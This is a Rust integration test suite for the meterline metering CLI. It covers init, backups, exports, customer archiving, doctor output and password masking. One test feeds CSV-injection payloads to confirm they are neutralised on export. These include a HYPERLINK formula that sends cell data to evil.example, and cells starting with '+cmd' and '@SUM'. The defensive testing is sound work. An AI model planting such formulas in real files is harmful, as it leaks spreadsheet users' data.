//! The first hour and the long run: init, plans lookup, completions, man page, backup,
//! export and `check --exit-code`, through the real binary.

use std::path::Path;
use std::process::{Command as StdCommand, Stdio};

use crate::support::cli::{BIN, NOW, Scratch, repo_plans};
use crate::support::engine::{Engine, engine_tests};
use crate::support::postgres::PASSWORD;
use assert_cmd::Command;
use predicates::prelude::*;

engine_tests!(
    check_exit_code_says_whether_more_is_allowed,
    export_streams_events_and_usage_as_csv_and_json_lines,
    export_into_a_closed_pipe_ends_quietly,
    customers_are_renamed_archived_and_taken_back,
    export_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas,
    doctor_and_upgrade_name_the_database_schema_and_backlog,
);

/// The binary with no meterline variables, in `dir`.
fn bare(dir: &std::path::Path) -> Command {
    let mut cmd = Command::new(BIN);
    for var in [
        "METERLINE_DB",
        "METERLINE_PLANS",
        "XDG_CONFIG_HOME",
        "NO_COLOR",
    ] {
        cmd.env_remove(var);
    }
    cmd.current_dir(dir)
        .env("HOME", dir)
        .env("METERLINE_NOW", NOW);
    cmd
}

#[test]
fn init_writes_the_example_plans_and_never_overwrites() {
    let dir = tempfile::tempdir().unwrap();
    bare(dir.path())
        .arg("init")
        .assert()
        .success()
        .stderr(predicate::str::contains("meterline customer add"));
    let written = std::fs::read_to_string(dir.path().join("plans.toml")).unwrap();
    let ai_api = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/plans-ai-api.toml");
    assert_eq!(written, std::fs::read_to_string(ai_api).unwrap());
    let plans = bare(dir.path()).args(["plans", "--json"]).output().unwrap();
    assert!(plans.status.success());
    let plans: serde_json::Value = serde_json::from_slice(&plans.stdout).unwrap();
    let meters: Vec<&str> = plans["meters"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["id"].as_str().unwrap())
        .collect();
    assert_eq!(meters, ["requests", "tokens", "active_users"]);

    std::fs::write(dir.path().join("plans.toml"), "# mine\n").unwrap();
    bare(dir.path())
        .arg("init")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("already exists"));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("plans.toml")).unwrap(),
        "# mine\n"
    );
    bare(dir.path())
        .args(["init", "no/such/dir"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("cannot create"));
}

#[test]
fn plans_are_found_in_the_current_directory_then_the_user_config() {
    let dir = tempfile::tempdir().unwrap();
    let xdg = dir.path().join("xdg");
    std::fs::create_dir_all(xdg.join("meterline")).unwrap();
    std::fs::copy(repo_plans(), xdg.join("meterline/plans.toml")).unwrap();
    bare(dir.path())
        .env("XDG_CONFIG_HOME", &xdg)
        .arg("plans")
        .assert()
        .success()
        .stdout(predicate::str::contains("xdg/meterline/plans.toml: valid"));
    // Without XDG_CONFIG_HOME, ~/.config is the user configuration.
    let home_config = dir.path().join(".config/meterline");
    std::fs::create_dir_all(&home_config).unwrap();
    std::fs::copy(repo_plans(), home_config.join("plans.toml")).unwrap();
    bare(dir.path())
        .arg("plans")
        .assert()
        .success()
        .stdout(predicate::str::contains(
            ".config/meterline/plans.toml: valid",
        ));
    std::fs::copy(repo_plans(), dir.path().join("plans.toml")).unwrap();
    bare(dir.path())
        .env("XDG_CONFIG_HOME", &xdg)
        .arg("plans")
        .assert()
        .success()
        .stdout(predicate::str::starts_with("plans.toml: valid"));
}

#[test]
fn completions_and_man_page_are_generated() {
    let dir = tempfile::tempdir().unwrap();
    for shell in ["bash", "zsh", "fish", "powershell"] {
        let out = bare(dir.path())
            .args(["completions", shell])
            .output()
            .unwrap();
        assert!(out.status.success(), "{shell}");
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(
            text.contains("meterline") && text.contains("record"),
            "{shell}"
        );
    }
    bare(dir.path())
        .args(["completions", "tcsh"])
        .assert()
        .code(2);
    bare(dir.path())
        .arg("man")
        .assert()
        .success()
        .stdout(predicate::str::starts_with(".ie").or(predicate::str::contains(".TH meterline")));
}

fn check_exit_code_says_whether_more_is_allowed(engine: Engine) {
    let s = Scratch::on(engine);
    s.add_customer("capped", "free", "2026-11-01");
    s.cmd()
        .args(["check", "capped", "--exit-code"])
        .assert()
        .success();
    s.record("capped", 1000);
    s.cmd()
        .args(["check", "capped", "--exit-code", "--json"])
        .assert()
        .code(3)
        .stdout(predicate::str::contains("\"allowed\":false"));
    // Without the flag the answer is only in the output.
    s.cmd().args(["check", "capped"]).assert().success();
}

#[test]
fn backup_copies_a_live_database_consistently() {
    let s = Scratch::new();
    for c in ["a", "b", "c", "d"] {
        s.add_customer(c, "pro", "2026-11-01");
    }
    // Four writers keep recording while backups are taken.
    let writers: Vec<_> = ["a", "b", "c", "d"]
        .into_iter()
        .map(|c| {
            StdCommand::new("sh")
                .arg("-c")
                .arg(format!(
                    "for i in $(seq 1 60); do \"{BIN}\" record {c} -n 3 || exit 1; done"
                ))
                .env("METERLINE_DB", &s.db)
                .env("METERLINE_PLANS", &s.plans)
                .env("METERLINE_NOW", NOW)
                .stdout(Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    let mut copies = Vec::new();
    for i in 0..5 {
        let copy = s.dir.path().join(format!("backup-{i}.db"));
        s.cmd()
            .args(["backup", copy.to_str().unwrap(), "--json"])
            .assert()
            .success();
        copies.push(copy);
    }
    for mut w in writers {
        assert!(w.wait().unwrap().success());
    }
    for copy in &copies {
        // The copy is one file, opens as a meterline database and its counters equal its events.
        assert!(!copy.with_extension("db-wal").exists());
        let conn = rusqlite::Connection::open(copy).unwrap();
        let (used, events): (i64, i64) = conn
            .query_row(
                "SELECT (SELECT COALESCE(SUM(used),0) FROM usage_records),
                        (SELECT COALESCE(SUM(quantity),0) FROM usage_events)",
                [],
                |r| Ok((r.get(0)?, r.get(1)?)),
            )
            .unwrap();
        assert_eq!(used, events);
    }
    // A copy of the finished database has everything.
    let last = s.dir.path().join("final.db");
    s.cmd()
        .args(["backup", last.to_str().unwrap()])
        .assert()
        .success()
        .stdout(predicate::str::contains("240 events"));
    s.cmd()
        .env("METERLINE_DB", &last)
        .args(["check", "a", "--json"])
        .assert()
        .success()
        .stdout(predicate::str::contains("\"used\":180"));
    // An existing file is never overwritten.
    let before = std::fs::read(&last).unwrap();
    s.cmd()
        .args(["backup", last.to_str().unwrap()])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("already exists"));
    assert_eq!(std::fs::read(&last).unwrap(), before);
}

#[test]
fn a_copy_whose_counters_disagree_with_its_events_fails_verification() {
    let s = Scratch::new();
    s.add_customer("acme", "pro", "2026-11-01");
    s.record("acme", 5);
    let copy = s.dir.path().join("copy.db");
    s.cmd()
        .args(["backup", copy.to_str().unwrap()])
        .assert()
        .success();
    rusqlite::Connection::open(&copy)
        .unwrap()
        .execute("UPDATE meter_counters SET used = used + 1", [])
        .unwrap();
    let err = meterline::store::verify_backup(&copy).unwrap_err();
    assert!(err.to_string().contains("1 counters differ"), "{err}");
}

fn export_streams_events_and_usage_as_csv_and_json_lines(engine: Engine) {
    let s = Scratch::on(engine);
    s.add_customer("acme", "pro", "2026-10-01");
    s.add_customer("globex", "team", "2026-10-01");
    for (c, n, at) in [
        ("acme", 5, "2026-10-15T10:00:00Z"),
        ("acme", 7, "2026-11-20T10:00:00Z"),
        ("globex", 11, "2026-11-21T10:00:00Z"),
    ] {
        s.cmd()
            .args([
                "record",
                c,
                "-n",
                &n.to_string(),
                "--at",
                at,
                "--key",
                &format!("k,\"{n}\""),
            ])
            .assert()
            .success();
    }
    let out = s.cmd().args(["export", "events"]).output().unwrap();
    assert!(out.status.success());
    let mut csv = csv::Reader::from_reader(&out.stdout[..]);
    let header: Vec<String> = csv.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header[..4], ["id", "customer_id", "user_id", "quantity"]);
    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    // Keys with commas and quotes survive the round trip.
    assert_eq!(&rows[0][7], "k,\"5\"");

    let out = s
        .cmd()
        .args([
            "export",
            "events",
            "--format",
            "json",
            "--customer",
            "acme",
            "--since",
            "2026-11-01T00:00:00Z",
            "--until",
            "2026-12-01T00:00:00Z",
        ])
        .output()
        .unwrap();
    let lines: Vec<serde_json::Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["quantity"], 7);
    assert_eq!(lines[0]["stripe_reported_at"], serde_json::Value::Null);

    let out = s.cmd().args(["export", "usage"]).output().unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let mut lines = text.lines();
    assert_eq!(
        lines.next().unwrap(),
        "customer_id,period_start,period_end,used,plan_id,meter_event_name,included,at_limit,overage_rate,price,meter_id,overage_units,overage_amount,groups"
    );
    assert_eq!(lines.count(), 3);
}

fn export_into_a_closed_pipe_ends_quietly(engine: Engine) {
    let s = Scratch::on(engine);
    s.fill_demo(5, 20_000);
    let out = StdCommand::new("bash")
        .arg("-c")
        .arg(format!(
            "\"{BIN}\" export events | head -2 >/dev/null; exit ${{PIPESTATUS[0]}}"
        ))
        .env("METERLINE_DB", &s.db)
        .env("METERLINE_PLANS", &s.plans)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.is_empty(), "{stderr}");
    assert_eq!(out.status.code(), Some(0));
}

fn customers_are_renamed_archived_and_taken_back(engine: Engine) {
    let s = Scratch::on(engine);
    // On the real clock throughout: the dry-run sync below always is, and an event at the pinned
    // clock falls out of Stripe's 35-day window once the calendar passes it.
    let cmd = || {
        let mut c = s.cmd();
        c.env_remove("METERLINE_NOW");
        c
    };
    let json = |args: &[&str]| -> serde_json::Value {
        serde_json::from_slice(&cmd().args(args).output().unwrap().stdout).unwrap()
    };
    cmd()
        .args([
            "customer",
            "add",
            "acme",
            "--stripe-customer",
            "cus_ACME1234",
        ])
        .assert()
        .success();
    cmd().args(["record", "acme", "-n", "5"]).assert().success();
    cmd()
        .args(["customer", "rename", "acme", "Acme Robotics", "--json"])
        .assert()
        .success()
        .stdout(predicate::str::contains("\"name\":\"Acme Robotics\""));

    cmd()
        .args(["customer", "archive", "acme"])
        .assert()
        .success()
        .stdout(predicate::str::contains("(archived)"));
    let before = s.dump();
    cmd()
        .args(["record", "acme", "-n", "3"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("archived"))
        .stderr(predicate::str::contains("customer unarchive acme"));
    assert_eq!(s.dump(), before, "a refused record wrote nothing");
    // Its data stays, and its unreported usage still goes to Stripe.
    cmd()
        .args(["check", "acme", "--json"])
        .assert()
        .success()
        .stdout(predicate::str::contains("\"used\":5"));
    let preview = json(&["sync", "--dry-run", "--json"]);
    assert_eq!(preview["events"], 1, "{preview}");

    cmd()
        .args(["customer", "unarchive", "acme"])
        .assert()
        .success();
    cmd().args(["record", "acme", "-n", "3"]).assert().success();
    let list = json(&["customer", "list", "--json"]);
    assert_eq!(list[0]["archived_at"], serde_json::Value::Null);
    assert_eq!(list[0]["name"], "Acme Robotics");
    cmd()
        .args(["customer", "archive", "nobody"])
        .assert()
        .code(2);
}

#[test]
fn doctor_says_what_is_in_use_and_each_problem_with_its_fix() {
    let dir = tempfile::tempdir().unwrap();
    // Nothing here yet: no plans, no database; doctor creates neither.
    let out = bare(dir.path()).arg("doctor").output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.contains("fix: write the example with `meterline init`"),
        "{text}"
    );
    assert!(
        text.contains("fix: create it with `meterline customer add ID`"),
        "{text}"
    );
    assert!(!dir.path().join("meterline.db").exists());

    bare(dir.path()).arg("init").assert().success();
    bare(dir.path())
        .args([
            "customer",
            "add",
            "acme",
            "--stripe-customer",
            "cus_ACME1234",
        ])
        .assert()
        .success();
    let out = bare(dir.path())
        .env_remove("STRIPE_API_KEY")
        .arg("doctor")
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(
        text.contains("plans.toml (current directory): valid"),
        "{text}"
    );
    assert!(text.contains("journal mode wal, quick_check ok"), "{text}");
    assert!(text.ends_with("healthy\n"), "{text}");

    // A plan removed from plans.toml and usage that cannot go out are problems with fixes.
    bare(dir.path())
        .args(["customer", "add", "globex", "--plan", "pro"])
        .assert()
        .success();
    bare(dir.path())
        .args(["record", "globex", "-n", "5"])
        .assert()
        .success();
    let plans = std::fs::read_to_string(dir.path().join("plans.toml")).unwrap();
    let without_pro = plans.replace("id = \"pro\"", "id = \"pro2\"");
    std::fs::write(dir.path().join("plans.toml"), without_pro).unwrap();
    let out = bare(dir.path())
        .args(["doctor", "--json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let findings: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let problem = |check: &str| {
        findings
            .iter()
            .find(|f| f["check"] == check && f["verdict"] == "problem")
            .unwrap_or_else(|| panic!("no {check} problem in {findings:?}"))
            .clone()
    };
    assert!(
        problem("customers")["detail"]
            .as_str()
            .unwrap()
            .contains("globex")
    );
    assert!(
        problem("unmapped")["fix"]
            .as_str()
            .unwrap()
            .contains("set-stripe")
    );

    // A file that left WAL (another tool's `PRAGMA journal_mode`) is a problem with its fix.
    rusqlite::Connection::open(dir.path().join("meterline.db"))
        .unwrap()
        .query_row("PRAGMA journal_mode = DELETE", [], |_| Ok(()))
        .unwrap();
    let out = bare(dir.path())
        .args(["doctor", "--json"])
        .output()
        .unwrap();
    let findings: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let database = findings.iter().find(|f| f["check"] == "database").unwrap();
    assert_eq!(database["verdict"], "problem", "{database}");
    assert!(
        database["detail"]
            .as_str()
            .unwrap()
            .contains("journal mode delete"),
        "{database}"
    );
    assert!(
        database["fix"].as_str().unwrap().contains("WAL"),
        "{database}"
    );
}

/// OWASP's CSV injection rule: a text cell starting with `=`, `+`, `-`, `@`, a tab or a CR is
/// exported with a leading `'`, so a spreadsheet shows it instead of running it. Every text
/// column of both exports is covered (ids, keys, plan ids, Stripe's error); ordinary text and
/// meterline's own numbers are written as they are.
fn export_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(engine: Engine) {
    let s = Scratch::on(engine);
    let mut plans = std::fs::read_to_string(&s.plans).unwrap();
    plans.push_str(
        "\n[[plans]]\nid = \"-legacy\"\nname = \"Legacy\"\nprice = \"0\"\nincluded = 100\nat_limit = \"block\"\n",
    );
    std::fs::write(&s.plans, plans).unwrap();
    s.add_customer("acme", "pro", "2026-11-01");
    // `--plan=-legacy`: clap would read a separate `-legacy` as an option.
    s.cmd()
        .args([
            "customer",
            "add",
            "@evil",
            "--plan=-legacy",
            "--anchor",
            "2026-11-01",
        ])
        .assert()
        .success();
    let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"click")"#;
    for (customer, user, key) in [
        ("acme", hyperlink, "+cmd"),
        ("acme", "@SUM(1)", "-2+3"),
        ("acme", "alice", "req-1"),
        ("@evil", "bob", "=1+1"),
    ] {
        s.cmd()
            .args(["record", customer])
            .arg(format!("--user={user}"))
            .arg(format!("--key={key}"))
            .assert()
            .success();
    }
    // Stripe's error text is stored as Stripe wrote it, and may start with anything.
    for (key, error) in [
        ("+cmd", "\tcmd"),
        ("-2+3", "\r=1"),
        ("req-1", "No such customer"),
    ] {
        s.inspect().exec(&format!(
            "UPDATE usage_events SET stripe_error = '{error}' WHERE idempotency_key = '{key}'"
        ));
    }

    let out = s.cmd().args(["export", "events"]).output().unwrap();
    assert!(out.status.success(), "{out:?}");
    let mut csv = csv::Reader::from_reader(&out.stdout[..]);
    let header = csv.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    let cells = |key: &str| {
        let row = rows
            .iter()
            .find(|r| r[7].trim_start_matches('\'') == key)
            .unwrap_or_else(|| panic!("no row for key {key}: {rows:?}"));
        let get = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_string();
        (
            get("customer_id"),
            get("user_id"),
            get("idempotency_key"),
            get("stripe_error"),
        )
    };
    let quoted = |text: &str| format!("'{text}");
    assert_eq!(
        cells("+cmd"),
        (
            "acme".into(),
            quoted(hyperlink),
            "'+cmd".into(),
            "'\tcmd".into()
        )
    );
    assert_eq!(
        cells("-2+3"),
        (
            "acme".into(),
            "'@SUM(1)".into(),
            "'-2+3".into(),
            "'\r=1".into()
        )
    );
    // Ordinary text is untouched.
    assert_eq!(
        cells("req-1"),
        (
            "acme".into(),
            "alice".into(),
            "req-1".into(),
            "No such customer".into()
        )
    );
    assert_eq!(cells("=1+1").0, "'@evil");
    // meterline's own numbers and timestamps are never changed.
    let first = &rows[0];
    assert!(first[0].parse::<i64>().is_ok(), "{first:?}");
    assert_eq!(&first[3], "1");
    assert!(first[4].starts_with("2026-11-27T"), "{first:?}");

    let out = s.cmd().args(["export", "usage"]).output().unwrap();
    assert!(out.status.success(), "{out:?}");
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(&out.stdout[..])
        .records()
        .map(Result::unwrap)
        .collect();
    let evil = rows.iter().find(|r| &r[0] == "'@evil").unwrap();
    assert_eq!((&evil[3], &evil[4], &evil[6]), ("1", "'-legacy", "100"));
    let acme = rows.iter().find(|r| &r[0] == "acme").unwrap();
    assert_eq!((&acme[4], &acme[8], &acme[9]), ("pro", "0.0005", "49.00"));

    // JSON Lines stay raw: they are read by programs, not spreadsheets.
    let out = s
        .cmd()
        .args(["export", "events", "--format", "json"])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("\"idempotency_key\":\"+cmd\""));
}

/// `doctor` names the database (a PostgreSQL URL with the password as ***), the engine and its
/// version, the schema version (the same number on both engines) and the backlog; `upgrade` says the schema is current. Neither
/// prints the password.
fn doctor_and_upgrade_name_the_database_schema_and_backlog(engine: Engine) {
    let s = Scratch::on(engine);
    s.add_customer("acme", "free", "2026-11-01");
    s.cmd()
        .args(["customer", "set-stripe", "acme", "cus_Acme0001"])
        .assert()
        .success();
    s.record("acme", 5);
    let run = |args: &[&str]| {
        let out = s
            .cmd()
            .env_remove("STRIPE_API_KEY")
            .args(args)
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned()
            + &String::from_utf8_lossy(&out.stderr);
        assert!(!text.contains(PASSWORD), "the password is shown: {text}");
        (out, text)
    };
    let (out, text) = run(&["doctor", "--json"]);
    let findings: Vec<serde_json::Value> =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {text}"));
    let finding = |check: &str| {
        findings
            .iter()
            .find(|f| f["check"] == check)
            .unwrap_or_else(|| panic!("no {check} finding in {text}"))
            .clone()
    };
    let database = finding("database");
    assert_eq!(database["verdict"], "ok", "{database}");
    let detail = database["detail"].as_str().unwrap();
    // One schema version per release, whichever the engine.
    let version = meterline::store::SCHEMA_VERSION;
    assert_eq!(
        meterline::Store::open(&s.db)
            .unwrap()
            .schema_version()
            .unwrap(),
        version
    );
    assert!(
        detail.contains(&format!("schema version {version}")),
        "{detail}"
    );
    if engine == Engine::Postgres {
        assert!(
            detail.starts_with("postgres://meterline:***@127.0.0.1:")
                && detail.contains(": PostgreSQL 1"),
            "{detail}"
        );
    }
    let backlog = finding("backlog");
    assert!(
        backlog["detail"].as_str().unwrap().contains('1'),
        "one event waits for Stripe: {backlog}"
    );
    let (out, text) = run(&["upgrade"]);
    assert!(out.status.success(), "{text}");
    assert!(
        text.contains(&format!("schema version {version}, up to date")),
        "{text}"
    );
}
